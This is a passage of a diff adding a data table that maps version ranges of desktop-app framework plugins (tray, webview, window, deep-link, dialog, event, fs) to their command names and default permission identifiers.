+      ["2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0-rc.4", "2.0.0-rc.5", "2.0.0-rc.6", "2.0.0-rc.7", "2.0.0-rc.8", "2.0.0-rc.9", "2.0.0-rc.10", "2.0.0-rc.11", "2.0.0-rc.12", "2.0.0-rc.13", "2.0.0-rc.14", "2.0.0-rc.15", "2.0.0-rc.16", "2.0.0-rc.17", "2.0.0", "2.0.1", "2.0.2", "2.0.3", "2.0.4", "2.0.5", "2.0.6", "2.1.0", "2.1.1", "2.2.0", "2.2.1", "2.2.2", "2.2.3", "2.2.4", "2.2.5", "2.3.0", "2.3.1", "2.4.0", "2.4.1", "2.5.0", "2.5.1", "2.6.0", "2.6.1", "2.6.2", "2.7.0", "2.8.0", "2.8.1", "2.8.2", "2.8.3", "2.8.4", "2.8.5", "2.9.0", "2.9.1", "2.9.2", "2.9.3", "2.9.4", "2.9.5", "2.10.0", "2.10.1", "2.10.2", "2.10.3"],
+      {
+        c: ["get_by_id", "new", "remove_by_id", "set_icon", "set_icon_as_template", "set_menu", "set_show_menu_on_left_click", "set_temp_dir_path", "set_title", "set_tooltip", "set_visible"],
+        def: ["allow-new", "allow-get-by-id", "allow-remove-by-id", "allow-set-icon", "allow-set-menu", "allow-set-tooltip", "allow-set-title", "allow-set-visible", "allow-set-temp-dir-path", "allow-set-icon-as-template", "allow-set-show-menu-on-left-click"]
+      }
+    ],
+    [
+      ["2.11.0", "2.11.1", "2.11.2", "2.11.3", "2.11.4", "2.11.5", "2.11.6", "2.12.0", "2.12.1", "2.12.2", "2.12.3", "2.12.4", "2.12.5"],
+      {
+        c: ["get_by_id", "new", "remove_by_id", "set_icon", "set_icon_as_template", "set_icon_with_as_template", "set_menu", "set_show_menu_on_left_click", "set_temp_dir_path", "set_title", "set_tooltip", "set_visible"],
+        def: ["allow-new", "allow-get-by-id", "allow-remove-by-id", "allow-set-icon", "allow-set-menu", "allow-set-tooltip", "allow-set-title", "allow-set-visible", "allow-set-temp-dir-path", "allow-set-icon-as-template", "allow-set-icon-with-as-template", "allow-set-show-menu-on-left-click"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3", "3.0.0-alpha.4", "3.0.0-alpha.5"],
+      {
+        c: ["get_by_id", "new", "remove_by_id", "set_icon", "set_icon_as_template", "set_icon_with_as_template", "set_menu", "set_show_menu_on_left_click", "set_temp_dir_path", "set_title", "set_tooltip", "set_visible"],
+        demand: true,
+        def: ["allow-new", "allow-get-by-id", "allow-remove-by-id", "allow-set-icon", "allow-set-menu", "allow-set-tooltip", "allow-set-title", "allow-set-visible", "allow-set-temp-dir-path", "allow-set-icon-as-template", "allow-set-icon-with-as-template", "allow-set-show-menu-on-left-click"]
+      }
+    ]
+  ],
+  "core:webview": [
+    [
+      ["2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2"],
+      {
+        c: ["create_webview", "create_webview_window", "internal_toggle_devtools", "print", "reparent", "set_webview_focus", "set_webview_position", "set_webview_size", "set_webview_zoom", "webview_close", "webview_position", "webview_size"],
+        def: ["allow-webview-position", "allow-webview-size", "allow-internal-toggle-devtools"]
+      }
+    ],
+    [
+      ["2.0.0-rc.3", "2.0.0-rc.4", "2.0.0-rc.5", "2.0.0-rc.6", "2.0.0-rc.7", "2.0.0-rc.8", "2.0.0-rc.9", "2.0.0-rc.10", "2.0.0-rc.11", "2.0.0-rc.12", "2.0.0-rc.13", "2.0.0-rc.14", "2.0.0-rc.15"],
+      {
+        c: ["create_webview", "create_webview_window", "get_all_webviews", "internal_toggle_devtools", "print", "reparent", "set_webview_focus", "set_webview_position", "set_webview_size", "set_webview_zoom", "webview_close", "webview_position", "webview_size"],
+        def: ["allow-get-all-webviews", "allow-webview-position", "allow-webview-size", "allow-internal-toggle-devtools"]
+      }
+    ],
+    [
+      ["2.0.0-rc.16", "2.0.0-rc.17", "2.0.0", "2.0.1", "2.0.2", "2.0.3", "2.0.4", "2.0.5", "2.0.6", "2.1.0", "2.1.1"],
+      {
+        c: ["clear_all_browsing_data", "create_webview", "create_webview_window", "get_all_webviews", "internal_toggle_devtools", "print", "reparent", "set_webview_focus", "set_webview_position", "set_webview_size", "set_webview_zoom", "webview_close", "webview_hide", "webview_position", "webview_show", "webview_size"],
+        def: ["allow-get-all-webviews", "allow-webview-position", "allow-webview-size", "allow-internal-toggle-devtools"]
+      }
+    ],
+    [
+      ["2.2.0", "2.2.1", "2.2.2", "2.2.3", "2.2.4", "2.2.5", "2.3.0", "2.3.1", "2.4.0", "2.4.1", "2.5.0", "2.5.1"],
+      {
+        c: ["clear_all_browsing_data", "create_webview", "create_webview_window", "get_all_webviews", "internal_toggle_devtools", "print", "reparent", "set_webview_background_color", "set_webview_focus", "set_webview_position", "set_webview_size", "set_webview_zoom", "webview_close", "webview_hide", "webview_position", "webview_show", "webview_size"],
+        def: ["allow-get-all-webviews", "allow-webview-position", "allow-webview-size", "allow-internal-toggle-devtools"]
+      }
+    ],
+    [
+      ["2.6.0", "2.6.1", "2.6.2", "2.7.0", "2.8.0", "2.8.1", "2.8.2", "2.8.3", "2.8.4", "2.8.5", "2.9.0", "2.9.1", "2.9.2", "2.9.3", "2.9.4", "2.9.5", "2.10.0", "2.10.1", "2.10.2", "2.10.3", "2.11.0", "2.11.1", "2.11.2", "2.11.3", "2.11.4", "2.11.5", "2.11.6", "2.12.0", "2.12.1", "2.12.2", "2.12.3", "2.12.4", "2.12.5"],
+      {
+        c: ["clear_all_browsing_data", "create_webview", "create_webview_window", "get_all_webviews", "internal_toggle_devtools", "print", "reparent", "set_webview_auto_resize", "set_webview_background_color", "set_webview_focus", "set_webview_position", "set_webview_size", "set_webview_zoom", "webview_close", "webview_hide", "webview_position", "webview_show", "webview_size"],
+        def: ["allow-get-all-webviews", "allow-webview-position", "allow-webview-size", "allow-internal-toggle-devtools"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3", "3.0.0-alpha.4", "3.0.0-alpha.5"],
+      {
+        c: ["clear_all_browsing_data", "create_webview", "create_webview_window", "get_all_webviews", "internal_toggle_devtools", "print", "reparent", "set_webview_auto_resize", "set_webview_background_color", "set_webview_focus", "set_webview_position", "set_webview_size", "set_webview_zoom", "webview_close", "webview_hide", "webview_position", "webview_show", "webview_size"],
+        demand: true,
+        def: ["allow-get-all-webviews", "allow-webview-position", "allow-webview-size", "allow-internal-toggle-devtools"]
+      }
+    ]
+  ],
+  "core:window": [
+    [
+      ["2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2"],
+      {
+        c: ["available_monitors", "center", "close", "create", "current_monitor", "cursor_position", "destroy", "hide", "inner_position", "inner_size", "internal_toggle_maximize", "is_closable", "is_decorated", "is_focused", "is_fullscreen", "is_maximizable", "is_maximized", "is_minimizable", "is_minimized", "is_resizable", "is_visible", "maximize", "minimize", "monitor_from_point", "outer_position", "outer_size", "primary_monitor", "request_user_attention", "scale_factor", "set_always_on_bottom", "set_always_on_top", "set_closable", "set_content_protected", "set_cursor_grab", "set_cursor_icon", "set_cursor_position", "set_cursor_visible", "set_decorations", "set_effects", "set_focus", "set_fullscreen", "set_icon", "set_ignore_cursor_events", "set_max_size", "set_maximizable", "set_min_size", "set_minimizable", "set_position", "set_progress_bar", "set_resizable", "set_shadow", "set_size", "set_size_constraints", "set_skip_taskbar", "set_title", "set_title_bar_style", "set_visible_on_all_workspaces", "show", "start_dragging", "start_resize_dragging", "theme", "title", "toggle_maximize", "unmaximize", "unminimize"],
+        def: ["allow-scale-factor", "allow-inner-position", "allow-outer-position", "allow-inner-size", "allow-outer-size", "allow-is-fullscreen", "allow-is-minimized", "allow-is-maximized", "allow-is-focused", "allow-is-decorated", "allow-is-resizable", "allow-is-maximizable", "allow-is-minimizable", "allow-is-closable", "allow-is-visible", "allow-title", "allow-current-monitor", "allow-primary-monitor", "allow-monitor-from-point", "allow-available-monitors", "allow-cursor-position", "allow-theme", "allow-internal-toggle-maximize"]
+      }
+    ],
+    [
+      ["2.0.0-rc.3", "2.0.0-rc.4", "2.0.0-rc.5", "2.0.0-rc.6", "2.0.0-rc.7", "2.0.0-rc.8", "2.0.0-rc.9", "2.0.0-rc.10", "2.0.0-rc.11", "2.0.0-rc.12", "2.0.0-rc.13", "2.0.0-rc.14", "2.0.0-rc.15"],
+      {
+        c: ["available_monitors", "center", "close", "create", "current_monitor", "cursor_position", "destroy", "get_all_windows", "hide", "inner_position", "inner_size", "internal_toggle_maximize", "is_closable", "is_decorated", "is_focused", "is_fullscreen", "is_maximizable", "is_maximized", "is_minimizable", "is_minimized", "is_resizable", "is_visible", "maximize", "minimize", "monitor_from_point", "outer_position", "outer_size", "primary_monitor", "request_user_attention", "scale_factor", "set_always_on_bottom", "set_always_on_top", "set_closable", "set_content_protected", "set_cursor_grab", "set_cursor_icon", "set_cursor_position", "set_cursor_visible", "set_decorations", "set_effects", "set_focus", "set_fullscreen", "set_icon", "set_ignore_cursor_events", "set_max_size", "set_maximizable", "set_min_size", "set_minimizable", "set_position", "set_progress_bar", "set_resizable", "set_shadow", "set_size", "set_size_constraints", "set_skip_taskbar", "set_title", "set_title_bar_style", "set_visible_on_all_workspaces", "show", "start_dragging", "start_resize_dragging", "theme", "title", "toggle_maximize", "unmaximize", "unminimize"],
+        def: ["allow-get-all-windows", "allow-scale-factor", "allow-inner-position", "allow-outer-position", "allow-inner-size", "allow-outer-size", "allow-is-fullscreen", "allow-is-minimized", "allow-is-maximized", "allow-is-focused", "allow-is-decorated", "allow-is-resizable", "allow-is-maximizable", "allow-is-minimizable", "allow-is-closable", "allow-is-visible", "allow-title", "allow-current-monitor", "allow-primary-monitor", "allow-monitor-from-point", "allow-available-monitors", "allow-cursor-position", "allow-theme", "allow-internal-toggle-maximize"]
+      }
+    ],
+    [
+      ["2.0.0-rc.16", "2.0.0-rc.17", "2.0.0", "2.0.1", "2.0.2", "2.0.3", "2.0.4", "2.0.5", "2.0.6", "2.1.0", "2.1.1"],
+      {
+        c: ["available_monitors", "center", "close", "create", "current_monitor", "cursor_position", "destroy", "get_all_windows", "hide", "inner_position", "inner_size", "internal_toggle_maximize", "is_closable", "is_decorated", "is_enabled", "is_focused", "is_fullscreen", "is_maximizable", "is_maximized", "is_minimizable", "is_minimized", "is_resizable", "is_visible", "maximize", "minimize", "monitor_from_point", "outer_position", "outer_size", "primary_monitor", "request_user_attention", "scale_factor", "set_always_on_bottom", "set_always_on_top", "set_closable", "set_content_protected", "set_cursor_grab", "set_cursor_icon", "set_cursor_position", "set_cursor_visible", "set_decorations", "set_effects", "set_enabled", "set_focus", "set_fullscreen", "set_icon", "set_ignore_cursor_events", "set_max_size", "set_maximizable", "set_min_size", "set_minimizable", "set_position", "set_progress_bar", "set_resizable", "set_shadow", "set_size", "set_size_constraints", "set_skip_taskbar", "set_theme", "set_title", "set_title_bar_style", "set_visible_on_all_workspaces", "show", "start_dragging", "start_resize_dragging", "theme", "title", "toggle_maximize", "unmaximize", "unminimize"],
+        def: ["allow-get-all-windows", "allow-scale-factor", "allow-inner-position", "allow-outer-position", "allow-inner-size", "allow-outer-size", "allow-is-fullscreen", "allow-is-minimized", "allow-is-maximized", "allow-is-focused", "allow-is-decorated", "allow-is-resizable", "allow-is-maximizable", "allow-is-minimizable", "allow-is-closable", "allow-is-visible", "allow-is-enabled", "allow-title", "allow-current-monitor", "allow-primary-monitor", "allow-monitor-from-point", "allow-available-monitors", "allow-cursor-position", "allow-theme", "allow-internal-toggle-maximize"]
+      }
+    ],
+    [
+      ["2.2.0", "2.2.1", "2.2.2", "2.2.3", "2.2.4", "2.2.5", "2.3.0", "2.3.1"],
+      {
+        c: ["available_monitors", "center", "close", "create", "current_monitor", "cursor_position", "destroy", "get_all_windows", "hide", "inner_position", "inner_size", "internal_toggle_maximize", "is_closable", "is_decorated", "is_enabled", "is_focused", "is_fullscreen", "is_maximizable", "is_maximized", "is_minimizable", "is_minimized", "is_resizable", "is_visible", "maximize", "minimize", "monitor_from_point", "outer_position", "outer_size", "primary_monitor", "request_user_attention", "scale_factor", "set_always_on_bottom", "set_always_on_top", "set_background_color", "set_badge_count", "set_badge_label", "set_closable", "set_content_protected", "set_cursor_grab", "set_cursor_icon", "set_cursor_position", "set_cursor_visible", "set_decorations", "set_effects", "set_enabled", "set_focus", "set_fullscreen", "set_icon", "set_ignore_cursor_events", "set_max_size", "set_maximizable", "set_min_size", "set_minimizable", "set_overlay_icon", "set_position", "set_progress_bar", "set_resizable", "set_shadow", "set_size", "set_size_constraints", "set_skip_taskbar", "set_theme", "set_title", "set_title_bar_style", "set_visible_on_all_workspaces", "show", "start_dragging", "start_resize_dragging", "theme", "title", "toggle_maximize", "unmaximize", "unminimize"],
+        def: ["allow-get-all-windows", "allow-scale-factor", "allow-inner-position", "allow-outer-position", "allow-inner-size", "allow-outer-size", "allow-is-fullscreen", "allow-is-minimized", "allow-is-maximized", "allow-is-focused", "allow-is-decorated", "allow-is-resizable", "allow-is-maximizable", "allow-is-minimizable", "allow-is-closable", "allow-is-visible", "allow-is-enabled", "allow-title", "allow-current-monitor", "allow-primary-monitor", "allow-monitor-from-point", "allow-available-monitors", "allow-cursor-position", "allow-theme", "allow-internal-toggle-maximize"]
+      }
+    ],
+    [
+      ["2.4.0", "2.4.1", "2.5.0", "2.5.1", "2.6.0", "2.6.1", "2.6.2", "2.7.0"],
+      {
+        c: ["available_monitors", "center", "close", "create", "current_monitor", "cursor_position", "destroy", "get_all_windows", "hide", "inner_position", "inner_size", "internal_toggle_maximize", "is_always_on_top", "is_closable", "is_decorated", "is_enabled", "is_focused", "is_fullscreen", "is_maximizable", "is_maximized", "is_minimizable", "is_minimized", "is_resizable", "is_visible", "maximize", "minimize", "monitor_from_point", "outer_position", "outer_size", "primary_monitor", "request_user_attention", "scale_factor", "set_always_on_bottom", "set_always_on_top", "set_background_color", "set_badge_count", "set_badge_label", "set_closable", "set_content_protected", "set_cursor_grab", "set_cursor_icon", "set_cursor_position", "set_cursor_visible", "set_decorations", "set_effects", "set_enabled", "set_focus", "set_fullscreen", "set_icon", "set_ignore_cursor_events", "set_max_size", "set_maximizable", "set_min_size", "set_minimizable", "set_overlay_icon", "set_position", "set_progress_bar", "set_resizable", "set_shadow", "set_size", "set_size_constraints", "set_skip_taskbar", "set_theme", "set_title", "set_title_bar_style", "set_visible_on_all_workspaces", "show", "start_dragging", "start_resize_dragging", "theme", "title", "toggle_maximize", "unmaximize", "unminimize"],
+        def: ["allow-get-all-windows", "allow-scale-factor", "allow-inner-position", "allow-outer-position", "allow-inner-size", "allow-outer-size", "allow-is-fullscreen", "allow-is-minimized", "allow-is-maximized", "allow-is-focused", "allow-is-decorated", "allow-is-resizable", "allow-is-maximizable", "allow-is-minimizable", "allow-is-closable", "allow-is-visible", "allow-is-enabled", "allow-title", "allow-current-monitor", "allow-primary-monitor", "allow-monitor-from-point", "allow-available-monitors", "allow-cursor-position", "allow-theme", "allow-is-always-on-top", "allow-internal-toggle-maximize"]
+      }
+    ],
+    [
+      ["2.8.0", "2.8.1", "2.8.2", "2.8.3", "2.8.4", "2.8.5", "2.9.0", "2.9.1", "2.9.2", "2.9.3", "2.9.4", "2.9.5", "2.10.0", "2.10.1", "2.10.2", "2.10.3"],
+      {
+        c: ["available_monitors", "center", "close", "create", "current_monitor", "cursor_position", "destroy", "get_all_windows", "hide", "inner_position", "inner_size", "internal_toggle_maximize", "is_always_on_top", "is_closable", "is_decorated", "is_enabled", "is_focused", "is_fullscreen", "is_maximizable", "is_maximized", "is_minimizable", "is_minimized", "is_resizable", "is_visible", "maximize", "minimize", "monitor_from_point", "outer_position", "outer_size", "primary_monitor", "request_user_attention", "scale_factor", "set_always_on_bottom", "set_always_on_top", "set_background_color", "set_badge_count", "set_badge_label", "set_closable", "set_content_protected", "set_cursor_grab", "set_cursor_icon", "set_cursor_position", "set_cursor_visible", "set_decorations", "set_effects", "set_enabled", "set_focus", "set_focusable", "set_fullscreen", "set_icon", "set_ignore_cursor_events", "set_max_size", "set_maximizable", "set_min_size", "set_minimizable", "set_overlay_icon", "set_position", "set_progress_bar", "set_resizable", "set_shadow", "set_simple_fullscreen", "set_size", "set_size_constraints", "set_skip_taskbar", "set_theme", "set_title", "set_title_bar_style", "set_visible_on_all_workspaces", "show", "start_dragging", "start_resize_dragging", "theme", "title", "toggle_maximize", "unmaximize", "unminimize"],
+        def: ["allow-get-all-windows", "allow-scale-factor", "allow-inner-position", "allow-outer-position", "allow-inner-size", "allow-outer-size", "allow-is-fullscreen", "allow-is-minimized", "allow-is-maximized", "allow-is-focused", "allow-is-decorated", "allow-is-resizable", "allow-is-maximizable", "allow-is-minimizable", "allow-is-closable", "allow-is-visible", "allow-is-enabled", "allow-title", "allow-current-monitor", "allow-primary-monitor", "allow-monitor-from-point", "allow-available-monitors", "allow-cursor-position", "allow-theme", "allow-is-always-on-top", "allow-internal-toggle-maximize"]
+      }
+    ],
+    [
+      ["2.11.0", "2.11.1", "2.11.2", "2.11.3", "2.11.4", "2.11.5", "2.11.6"],
+      {
+        c: ["activity_name", "available_monitors", "center", "close", "create", "current_monitor", "cursor_position", "destroy", "get_all_windows", "hide", "inner_position", "inner_size", "internal_toggle_maximize", "is_always_on_top", "is_closable", "is_decorated", "is_enabled", "is_focused", "is_fullscreen", "is_maximizable", "is_maximized", "is_minimizable", "is_minimized", "is_resizable", "is_visible", "maximize", "minimize", "monitor_from_point", "outer_position", "outer_size", "primary_monitor", "request_user_attention", "scale_factor", "scene_identifier", "set_always_on_bottom", "set_always_on_top", "set_background_color", "set_badge_count", "set_badge_label", "set_closable", "set_content_protected", "set_cursor_grab", "set_cursor_icon", "set_cursor_position", "set_cursor_visible", "set_decorations", "set_effects", "set_enabled", "set_focus", "set_focusable", "set_fullscreen", "set_icon", "set_ignore_cursor_events", "set_max_size", "set_maximizable", "set_min_size", "set_minimizable", "set_overlay_icon", "set_position", "set_progress_bar", "set_resizable", "set_shadow", "set_simple_fullscreen", "set_size", "set_size_constraints", "set_skip_taskbar", "set_theme", "set_title", "set_title_bar_style", "set_visible_on_all_workspaces", "show", "start_dragging", "start_resize_dragging", "theme", "title", "toggle_maximize", "unmaximize", "unminimize"],
+        def: ["allow-get-all-windows", "allow-scale-factor", "allow-inner-position", "allow-outer-position", "allow-inner-size", "allow-outer-size", "allow-is-fullscreen", "allow-is-minimized", "allow-is-maximized", "allow-is-focused", "allow-is-decorated", "allow-is-resizable", "allow-is-maximizable", "allow-is-minimizable", "allow-is-closable", "allow-is-visible", "allow-is-enabled", "allow-title", "allow-current-monitor", "allow-primary-monitor", "allow-monitor-from-point", "allow-available-monitors", "allow-cursor-position", "allow-theme", "allow-is-always-on-top", "allow-activity-name", "allow-scene-identifier", "allow-internal-toggle-maximize"]
+      }
+    ],
+    [
+      ["2.12.0", "2.12.1", "2.12.2", "2.12.3", "2.12.4", "2.12.5"],
+      {
+        c: ["activity_name", "available_monitors", "center", "close", "create", "current_monitor", "cursor_position", "destroy", "get_all_windows", "hide", "inner_position", "inner_size", "internal_toggle_maximize", "is_always_on_top", "is_closable", "is_decorated", "is_enabled", "is_focused", "is_fullscreen", "is_maximizable", "is_maximized", "is_minimizable", "is_minimized", "is_resizable", "is_visible", "maximize", "minimize", "monitor_from_point", "outer_position", "outer_size", "primary_monitor", "request_user_attention", "scale_factor", "scene_identifier", "set_always_on_bottom", "set_always_on_top", "set_background_color", "set_badge_count", "set_badge_label", "set_closable", "set_content_protected", "set_cursor_grab", "set_cursor_icon", "set_cursor_position", "set_cursor_visible", "set_decorations", "set_effects", "set_enabled", "set_focus", "set_focusable", "set_fullscreen", "set_fullscreen_on_monitor", "set_icon", "set_ignore_cursor_events", "set_max_size", "set_maximizable", "set_min_size", "set_minimizable", "set_overlay_icon", "set_position", "set_progress_bar", "set_resizable", "set_shadow", "set_simple_fullscreen", "set_size", "set_size_constraints", "set_skip_taskbar", "set_theme", "set_title", "set_title_bar_style", "set_visible_on_all_workspaces", "show", "start_dragging", "start_resize_dragging", "theme", "title", "toggle_maximize", "unmaximize", "unminimize"],
+        def: ["allow-get-all-windows", "allow-scale-factor", "allow-inner-position", "allow-outer-position", "allow-inner-size", "allow-outer-size", "allow-is-fullscreen", "allow-is-minimized", "allow-is-maximized", "allow-is-focused", "allow-is-decorated", "allow-is-resizable", "allow-is-maximizable", "allow-is-minimizable", "allow-is-closable", "allow-is-visible", "allow-is-enabled", "allow-title", "allow-current-monitor", "allow-primary-monitor", "allow-monitor-from-point", "allow-available-monitors", "allow-cursor-position", "allow-theme", "allow-is-always-on-top", "allow-activity-name", "allow-scene-identifier", "allow-internal-toggle-maximize"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1"],
+      {
+        c: ["activity_name", "available_monitors", "center", "close", "create", "current_monitor", "cursor_position", "destroy", "get_all_windows", "hide", "inner_position", "inner_size", "internal_toggle_maximize", "is_always_on_top", "is_closable", "is_decorated", "is_enabled", "is_focused", "is_fullscreen", "is_maximizable", "is_maximized", "is_minimizable", "is_minimized", "is_resizable", "is_visible", "maximize", "minimize", "monitor_from_point", "outer_position", "outer_size", "primary_monitor", "request_user_attention", "scale_factor", "scene_identifier", "set_always_on_bottom", "set_always_on_top", "set_background_color", "set_badge_count", "set_badge_label", "set_closable", "set_content_protected", "set_cursor_grab", "set_cursor_icon", "set_cursor_position", "set_cursor_visible", "set_decorations", "set_effects", "set_enabled", "set_focus", "set_focusable", "set_fullscreen", "set_icon", "set_ignore_cursor_events", "set_max_size", "set_maximizable", "set_min_size", "set_minimizable", "set_overlay_icon", "set_position", "set_progress_bar", "set_resizable", "set_shadow", "set_simple_fullscreen", "set_size", "set_size_constraints", "set_skip_taskbar", "set_theme", "set_title", "set_title_bar_style", "set_visible_on_all_workspaces", "show", "start_dragging", "start_resize_dragging", "theme", "title", "toggle_maximize", "unmaximize", "unminimize"],
+        demand: true,
+        def: ["allow-get-all-windows", "allow-scale-factor", "allow-inner-position", "allow-outer-position", "allow-inner-size", "allow-outer-size", "allow-is-fullscreen", "allow-is-minimized", "allow-is-maximized", "allow-is-focused", "allow-is-decorated", "allow-is-resizable", "allow-is-maximizable", "allow-is-minimizable", "allow-is-closable", "allow-is-visible", "allow-is-enabled", "allow-title", "allow-current-monitor", "allow-primary-monitor", "allow-monitor-from-point", "allow-available-monitors", "allow-cursor-position", "allow-theme", "allow-is-always-on-top", "allow-activity-name", "allow-scene-identifier", "allow-internal-toggle-maximize"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.2", "3.0.0-alpha.3", "3.0.0-alpha.4", "3.0.0-alpha.5"],
+      {
+        c: ["activity_name", "available_monitors", "center", "close", "create", "current_monitor", "cursor_position", "destroy", "get_all_windows", "hide", "inner_position", "inner_size", "internal_toggle_maximize", "is_always_on_top", "is_closable", "is_decorated", "is_enabled", "is_focused", "is_fullscreen", "is_maximizable", "is_maximized", "is_minimizable", "is_minimized", "is_resizable", "is_visible", "maximize", "minimize", "monitor_from_point", "outer_position", "outer_size", "primary_monitor", "request_user_attention", "scale_factor", "scene_identifier", "set_always_on_bottom", "set_always_on_top", "set_background_color", "set_badge_count", "set_badge_label", "set_closable", "set_content_protected", "set_cursor_grab", "set_cursor_icon", "set_cursor_position", "set_cursor_visible", "set_decorations", "set_effects", "set_enabled", "set_focus", "set_focusable", "set_fullscreen", "set_fullscreen_on_monitor", "set_icon", "set_ignore_cursor_events", "set_max_size", "set_maximizable", "set_min_size", "set_minimizable", "set_overlay_icon", "set_position", "set_progress_bar", "set_resizable", "set_shadow", "set_simple_fullscreen", "set_size", "set_size_constraints", "set_skip_taskbar", "set_theme", "set_title", "set_title_bar_style", "set_visible_on_all_workspaces", "show", "start_dragging", "start_resize_dragging", "theme", "title", "toggle_maximize", "unmaximize", "unminimize"],
+        demand: true,
+        def: ["allow-get-all-windows", "allow-scale-factor", "allow-inner-position", "allow-outer-position", "allow-inner-size", "allow-outer-size", "allow-is-fullscreen", "allow-is-minimized", "allow-is-maximized", "allow-is-focused", "allow-is-decorated", "allow-is-resizable", "allow-is-maximizable", "allow-is-minimizable", "allow-is-closable", "allow-is-visible", "allow-is-enabled", "allow-title", "allow-current-monitor", "allow-primary-monitor", "allow-monitor-from-point", "allow-available-monitors", "allow-cursor-position", "allow-theme", "allow-is-always-on-top", "allow-activity-name", "allow-scene-identifier", "allow-internal-toggle-maximize"]
+      }
+    ]
+  ],
+  "deep-link": [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4"],
+      {
+        c: ["get_current"],
+        def: ["allow-get-current"]
+      }
+    ],
+    [
+      ["2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-beta.10", "2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0-rc.4", "2.0.0-rc.5", "2.0.0-rc.6", "2.0.0-rc.7", "2.0.0", "2.0.1", "2.0.2", "2.2.0", "2.2.1", "2.3.0", "2.4.0", "2.4.1", "2.4.2", "2.4.3", "2.4.4", "2.4.5", "2.4.6", "2.4.7", "2.4.8", "2.4.9", "2.4.10", "2.5.0", "2.6.0", "2.6.1", "2.6.2", "2.6.3"],
+      {
+        c: ["get_current", "is_registered", "register", "unregister"],
+        def: ["allow-get-current"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3"],
+      {
+        c: ["get_current", "is_registered", "register", "unregister"],
+        def: ["allow-get-current"],
+        demand: true
+      }
+    ]
+  ],
+  dialog: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9"],
+      { c: ["ask", "confirm", "message", "open", "save"] }
+    ],
+    [
+      ["2.0.0-beta.10", "2.0.0-beta.11", "2.0.0-beta.12", "2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0-rc.4", "2.0.0-rc.5", "2.0.0-rc.6", "2.0.0-rc.7", "2.0.0-rc.8", "2.0.0", "2.0.1", "2.0.2", "2.0.3", "2.0.4", "2.0.5", "2.2.0", "2.2.1", "2.2.2", "2.3.0", "2.3.1", "2.3.2", "2.3.3", "2.4.0", "2.4.1", "2.4.2", "2.5.0", "2.6.0"],
+      {
+        c: ["ask", "confirm", "message", "open", "save"],
+        def: ["allow-ask", "allow-confirm", "allow-message", "allow-save", "allow-open"]
+      }
+    ],
+    [
+      ["2.7.0", "2.7.1", "2.7.2", "2.7.3", "2.8.0", "2.8.1", "2.8.2", "2.8.3", "2.8.4"],
+      {
+        c: ["message", "open", "save"],
+        def: ["allow-message", "allow-save", "allow-open"],
+        p: { "allow-ask": { a: ["message"] }, "allow-confirm": { a: ["message"] }, "deny-ask": { d: ["message"] }, "deny-confirm": { d: ["message"] } }
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3", "3.0.0-alpha.4"],
+      {
+        c: ["message", "open", "save"],
+        def: ["allow-message", "allow-save", "allow-open"],
+        p: { "allow-ask": { a: ["message"] }, "allow-confirm": { a: ["message"] }, "deny-ask": { d: ["message"] }, "deny-confirm": { d: ["message"] } },
+        demand: true
+      }
+    ]
+  ],
+  event: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-beta.10", "2.0.0-beta.11", "2.0.0-beta.12", "2.0.0-beta.13", "2.0.0-beta.14", "2.0.0-beta.15", "2.0.0-beta.16", "2.0.0-beta.17", "2.0.0-beta.18", "2.0.0-beta.19", "2.0.0-beta.20", "2.0.0-beta.21", "2.0.0-beta.22", "2.0.0-beta.23", "2.0.0-beta.24", "2.0.0-beta.25"],
+      {
+        c: ["emit", "emit_to", "listen", "unlisten"],
+        def: ["allow-listen", "allow-unlisten", "allow-emit", "allow-emit-to"]
+      }
+    ]
+  ],
+  fs: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9"],
+      {
+        c: ["copy_file", "create", "exists", "fstat", "ftruncate", "lstat", "mkdir", "open", "read", "read_dir", "read_file", "read_text_file", "read_text_file_lines", "read_text_file_lines_next", "remove", "rename", "seek", "stat", "truncate", "unwatch", "watch", "write", "write_file", "write_text_file"],
+        def: ["read-all", "scope-app-recursive", "deny-default"],
